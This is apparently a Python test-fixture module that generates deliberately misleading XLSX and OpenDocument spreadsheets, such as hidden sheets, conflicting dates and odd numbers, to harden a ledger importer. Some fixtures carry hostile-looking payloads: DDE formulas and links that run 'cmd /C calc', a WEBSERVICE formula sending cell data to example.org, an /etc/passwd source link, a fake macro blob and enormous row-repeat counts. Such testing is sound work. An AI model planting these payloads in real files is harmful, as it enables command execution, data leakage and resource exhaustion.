# ruff: noqa: E501 - a trick a line
# fmt: off
"""Files that somebody made by hand to mislead a reader; each says what a person sees in it.

All are a ledger of three lines, whose true rows are those of `TRUTH`, but for what is done to
it. A case may be refused in a sentence; what is taken in must be true.
"""

from __future__ import annotations

import io
import warnings
import zipfile
from typing import NamedTuple

HEADINGS = ("cost_id", "cost_date", "category", "amount")
TRUTH = (("C1", "2025-07-01", "bins", 5.0), ("C2", "2025-08-02", "worms", 70.5), ("C3", "2025-09-03", "bedding", 1200.0))
LINES = "\n".join(",".join(map(str, row)) for row in (HEADINGS, *TRUTH)) + "\n"
DAY_ONE = {1900: 45839, 1904: 45839 - 1462}
"""Serial number of 2025-07-01 by the two calendars of ECMA-376 part 1, 18.17.4.1."""

SERIALS = (0, 32, 64)
"""Days from the first cost to each."""

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"


class Trick(NamedTuple):
    """A file and what a person sees in it.

    Attributes
    ----------
    name, content
        Of the file.
    rows
        Costs that it shows to somebody who opens it; None where no table is there.
    """

    name: str
    content: bytes
    rows: tuple[tuple, ...] | None = TRUTH


# -- spreadsheets ------------------------------------------------------------------------


def text_cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def book_rows(calendar: int = 1900) -> list[str]:
    """Rows of the ledger as a spreadsheet program writes them."""
    rows = ["".join(text_cell(f"{letter}1", name) for letter, name in zip("ABCD", HEADINGS, strict=True))]
    for number, (row, days) in enumerate(zip(TRUTH, SERIALS, strict=True), 2):
        day = f'<c r="B{number}" s="1"><v>{DAY_ONE[calendar] + days}</v></c>'
        cells = text_cell(f"A{number}", row[0]) + day + text_cell(f"C{number}", row[2])
        rows.append(f'{cells}<c r="D{number}"><v>{row[3]}</v></c>')
    return rows


def sheet(rows: list[str], after: str = "") -> str:
    inner = "".join(f'<row r="{number}">{row}</row>' for number, row in enumerate(rows, 1))
    return f'<worksheet xmlns="{MAIN}"><sheetData>{inner}</sheetData>{after}</worksheet>'


def book_parts(
    sheets: dict[str, str] | None = None, states: dict[str, str] | None = None,
    properties: str = "", more_links: str = "", more_types: str = "",
) -> dict[str, str]:
    """Parts of a workbook of some sheets."""
    sheets = sheets or {"costs": sheet(book_rows())}
    listed = "".join(f'<sheet name="{name}" sheetId="{n}" {(states or {}).get(name, "")} r:id="r{n}"/>' for n, name in enumerate(sheets, 1))
    links = "".join(f'<Relationship Id="r{n}" Type="{LINKS}/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in range(1, len(sheets) + 1))
    kinds = "".join(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{TYPES}.worksheet+xml"/>' for n in range(1, len(sheets) + 1))
    package = LINKS.replace("officeDocument/2006", "package/2006")
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{TYPES}.sheet.main+xml"/>'
        f'<Override PartName="/xl/styles.xml" ContentType="{TYPES}.styles+xml"/>'
        f"{kinds}{more_types}</Types>",
        "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}">{properties}<sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}">{links}'
        f'<Relationship Id="rs" Type="{LINKS}/styles" Target="styles.xml"/>{more_links}'
        "</Relationships>",
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><fonts count="1"><font/></fonts><fills '
        'count="1"><fill/></fills><borders count="1"><border/></borders><cellStyleXfs count="1">'
        '<xf/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" '
        'applyNumberFormat="1"/></cellXfs></styleSheet>',
        **{f"xl/worksheets/sheet{n}.xml": text for n, text in enumerate(sheets.values(), 1)},
    }


def packed(parts: dict[str, str | bytes]) -> bytes:
    """Pack parts, be it two of one name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, part in parts.items():
            # of no time of its own, so that a case is the same at any time
            archive.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_row(number: int, row: str, rows: list[str] | None = None) -> str:
    """Write the sheet with one of its rows as another."""
    rows = rows or book_rows()
    return sheet([*rows[: number - 1], row, *rows[number:]])


def _second(amount: str = "", name: str = "") -> str:
    """Write row 2, its amount or its id's cell as given."""
    first, day, kind, cost = book_rows()[1].replace("<c ", "\0<c ").split("\0")[1:]
    return (name or first) + day + kind + (amount or cost)


def books() -> dict[str, bytes | Trick]:
    """Workbooks."""
    plain = book_parts()
    first = plain["xl/worksheets/sheet1.xml"]
    out: dict[str, bytes | Trick] = {"as it is": packed(plain)}

    def with_sheet(text: str, **more: str) -> bytes:
        return packed({**plain, "xl/worksheets/sheet1.xml": text, **more})

    phonetic = "<is><r><t>C</t></r><r><rPr><b/></rPr><t>1</t></r><rPh sb='0' eb='1'><t>see</t></rPh></is>"
    id_cell = f'<c r="A2" t="inlineStr">{phonetic}</c>'
    out["rich text with a phonetic run"] = with_sheet(with_row(2, _second(name=id_cell)))
    merged = '<mergeCells count="1"><mergeCell ref="A2:D4"/></mergeCells>'
    out["merged over its rows"] = Trick("", with_sheet(sheet(book_rows(), merged)), TRUTH[:0])
    out["merged down a column"] = with_sheet(sheet(book_rows(), merged.replace("A2:D4", "C3:C4")))
    for name, formula in {
        "shared": '<f t="shared" ref="D2:D4" si="0">5*A9</f>',
        "array": '<f t="array" ref="D2:D4">5*A9</f>',
        "of data": '<f t="dataTable" ref="D2:D4" dt2D="1" r1="A1" r2="A2"/>',
        "that calls": "<f>cmd|' /C calc'!A0</f>",
        "from the network": '<f>WEBSERVICE("http://example.org/"&amp;A2)</f>',
    }.items():
        out[f"formula {name}"] = with_sheet(with_row(2, _second(f'<c r="D2">{formula}<v>5</v></c>')))
        cell = f'<c r="D2">{formula}</c>'
        out[f"formula {name}, no result"] = Trick("", with_sheet(with_row(2, _second(cell))), TRUTH[1:])
    calendar = {"xl/workbook.xml": book_parts(properties='<workbookPr date1904="1"/>')["xl/workbook.xml"]}
    out["calendar of 1904"] = with_sheet(sheet(book_rows(1904)), **calendar)
    out["calendar of 1904, said as true"] = with_sheet(sheet(book_rows(1904)), **{name: text.replace('"1"', '"true"', 1) for name, text in calendar.items()})
    for state in ("hidden", "veryHidden"):
        two = {"costs": first, "more costs": first.replace(">C", ">X")}
        out[f"a sheet {state}"] = packed(book_parts(two, {"more costs": f'state="{state}"'}))
        out[f"every sheet {state}"] = Trick("", packed(book_parts(None, {"costs": f'state="{state}"'})), ())
    out["a hidden row"] = packed({**plain, "xl/worksheets/sheet1.xml": first.replace('<row r="3"', '<row r="3" hidden="1"')})
    out["a link to another book"] = packed(
        {**plain, "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'}
    )
    out["a connection"] = packed(
        {**plain, "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" type="1"><dbPr connection="x"/></connection></connections>'}
    )
    out["macros"] = Trick("costs.xlsm", packed({**plain, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}))
    out["macros named as if none"] = packed({**plain, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})
    for name, cell in {
        "a date as text": '<c r="B2" t="d"><v>2025-07-01</v></c>', "a truth": '<c r="B2" t="b"><v>1</v></c>',
        "a date far off": '<c r="B2" s="1"><v>99999999</v></c>', "a date before all": '<c r="B2" s="1"><v>-7</v></c>',
        "the day that never was": '<c r="B2" s="1"><v>60</v></c>', "no number": '<c r="B2" s="1"><v>NaN</v></c>',
    }.items():
        row = book_rows()[1]
        begin = row.index('<c r="B2"')
        changed = row[:begin] + cell + row[row.index("</c>", begin) + 4 :]
        rows = TRUTH if name == "a date as text" else TRUTH[1:]
        out[name] = Trick("", with_sheet(with_row(2, changed)), rows)
    for text in ("5e0", "0x5", "５", "5,", "1e999", "5" + "0" * 400, "5_0", " 5 "):
        rows = TRUTH if text in ("5e0", "５", " 5 ", "5,") else None
        cell = f'<c r="D2"><v>{text}</v></c>'
        out[f"the number {text[:9]}"] = Trick("", with_sheet(with_row(2, _second(cell))), rows or TRUTH[1:])
    out["a shared text that is not there"] = Trick("", with_sheet(with_row(2, _second(name='<c r="A2" t="s"><v>7</v></c>'))), TRUTH[1:])
    out["rows out of order"] = with_sheet(first.replace('<row r="2"', '<row r="9"').replace('2"', '9"', 0))
    out["rows without a number"] = with_sheet(sheet(book_rows()).replace('<row r="3"', "<row"))
    out["another prefix"] = with_sheet(first.replace("<", "<x:").replace("<x:/", "</x:").replace("xmlns=", "xmlns:x="))
    out["a comment in a cell"] = with_sheet(first.replace("<t>C1", "<t><!-- X -->C1"))
    out["a stretch of characters"] = with_sheet(first.replace("<t>C1</t>", "<t><![CDATA[C1]]></t>"))
    out["escapes of ECMA"] = with_sheet(first.replace("<t>C1</t>", "<t>_x0043_1</t>"))
    out["UTF-16 parts"] = packed({**plain, "xl/worksheets/sheet1.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + first).encode("utf-16")})
    out["said to be Latin"] = packed({**plain, "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="iso-8859-1"?>' + first})
    out["a thousand sheets"] = packed(book_parts({"costs": first} | {f"s{n}": sheet([]) for n in range(1000)}))
    out["two sheets of one name"] = packed(
        {
            **book_parts({"costs": first, "c2": first}),
            "xl/workbook.xml": book_parts({"costs": first, "c2": first})["xl/workbook.xml"].replace('"c2"', '"costs"'),
        }
    )
    out["two sheets of one part"] = packed(
        {**plain, "xl/workbook.xml": plain["xl/workbook.xml"].replace("</sheets>", '<sheet name="again" sheetId="2" r:id="r1"/></sheets>')}
    )
    out["a chart sheet"] = packed(book_parts(more_links=f'<Relationship Id="r9" Type="{LINKS}/chartsheet" Target="chartsheets/s.xml"/>'))
    return out


def open_sheet(rows: str, before: str = "", table: str = "costs") -> bytes:
    """Pack an open document of a table."""
    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text", "style"))
    content = (
        f'<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{before}'
        f'<office:body><office:spreadsheet><table:table table:name="{table}">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    return packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                   "META-INF/manifest.xml": "<manifest/>", "content.xml": content})


def open_cell(text: str, kind: str = "string", more: str = "", tag: str = "table-cell") -> str:
    return f'<table:{tag} office:value-type="{kind}" {more}><text:p>{text}</text:p></table:{tag}>'


def open_row(cells: str, more: str = "") -> str:
    return f"<table:table-row {more}>{cells}</table:table-row>"


def open_rows() -> list[str]:
    rows = [open_row("".join(map(open_cell, HEADINGS)))]
    for cost, day, kind, amount in TRUTH:
        dated = open_cell(day, "date", f'office:date-value="{day}"')
        money = open_cell(str(amount), "float", f'office:value="{amount}"')
        rows.append(open_row(open_cell(cost) + dated + open_cell(kind) + money))
    return rows


def open_books() -> dict[str, bytes | Trick]:
    """Sheets of open documents."""
    rows = open_rows()
    whole = "".join(rows)
    empty = "<table:table-cell/>"
    out: dict[str, bytes | Trick] = {"as it is": open_sheet(whole)}
    for repeat in (2**20, 2**31, 10**12, 0, -1):
        again = f'table:number-rows-repeated="{repeat}"'
        out[f"{repeat} empty rows under it"] = open_sheet(whole + open_row(empty, again))
        out[f"{repeat} filled rows"] = open_sheet(whole + open_row(open_cell("x"), again))
        wide = f'<table:table-cell table:number-columns-repeated="{repeat}"/>'
        out[f"{repeat} empty columns"] = open_sheet(whole.replace("</table:table-row>", f"{wide}</table:table-row>"))
    out["empty rows above it, by a count"] = open_sheet(open_row(empty, 'table:number-rows-repeated="1000"') + whole)
    lie = rows[1].replace('office:value="5.0"', 'office:value="9.0"')
    out["a number other than its text"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), (("C1", "2025-07-01", "bins", 9.0), *TRUTH[1:]))
    lie = rows[1].replace('office:date-value="2025-07-01"', 'office:date-value="2025-07-31"')
    out["a day other than its text"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), (("C1", "2025-07-31", "bins", 5.0), *TRUTH[1:]))
    for value in ("x", "", "1e999", "NaN", "5,0", "9" * 400):
        lie = rows[1].replace('office:value="5.0"', f'office:value="{value}"')
        out[f"the number {value[:9]}"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), None)
    for value in ("2025-02-30", "2025-07-01T23:59:59", "99999-01-01", "-0001-01-01", "x"):
        lie = rows[1].replace('office:date-value="2025-07-01"', f'office:date-value="{value}"')
        out[f"the day {value}"] = Trick("", open_sheet(rows[0] + lie + "".join(rows[2:])), TRUTH if "T" in value else None)
    covered = open_row(
        open_cell("C9")
        + open_cell("2025-07-09", tag="covered-table-cell")
        + open_cell("bins", tag="covered-table-cell")
        + open_cell("7", tag="covered-table-cell")
    )
    out["covered cells"] = Trick("", open_sheet(whole + covered), TRUTH)
    for name, more in {"hidden": 'table:visibility="collapse"', "filtered": 'table:visibility="filter"'}.items():
        out[f"a row {name}"] = open_sheet(rows[0] + rows[1].replace("<table:table-row ", f"<table:table-row {more} ") + "".join(rows[2:]))
    out["rows in groups"] = open_sheet(rows[0] + "<table:table-row-group>" + "".join(rows[1:]) + "</table:table-row-group>")
    out["heading rows"] = open_sheet(f"<table:table-header-rows>{rows[0]}</table:table-header-rows>" + "".join(rows[1:]))
    note = "<office:annotation><text:p>C1 is wrong</text:p></office:annotation>"
    out["a note in a cell"] = open_sheet(whole.replace("<text:p>C1", f"{note}<text:p>C1"))
    out["two paragraphs"] = Trick("", open_sheet(whole.replace("<text:p>bins</text:p>", "<text:p>bi</text:p><text:p>ns</text:p>")), TRUTH[1:])
    out["spans"] = open_sheet(whole.replace("<text:p>C1", "<text:p><text:span>C</text:span><text:span>1</text:span>").replace("</text:span>C1", "</text:span>"))
    out["a table in a cell"] = Trick("", open_sheet(whole.replace("<text:p>bins", f'<table:table table:name="in">{rows[2]}</table:table><text:p>bins')), None)
    out["a source elsewhere"] = open_sheet('<table:table-source xlink:href="file:///etc/passwd"/>' + whole)
    tracked = f"<table:tracked-changes><table:deletion>{rows[2].replace('C2', 'X2')}</table:deletion></table:tracked-changes>"
    out["changes kept"] = open_sheet(tracked + whole)
    out["a hidden table"] = Trick(
        "",
        open_sheet(
            whole.replace(">C", ">X") + '</table:table><table:table table:name="more costs" table:style-name="h">' + whole,
            '<office:automatic-styles><style:style style:name="h" style:family="table"><style:table-properties table:display="false"/></style:style></office:automatic-styles>',
        ),
        None,
    )
    return out
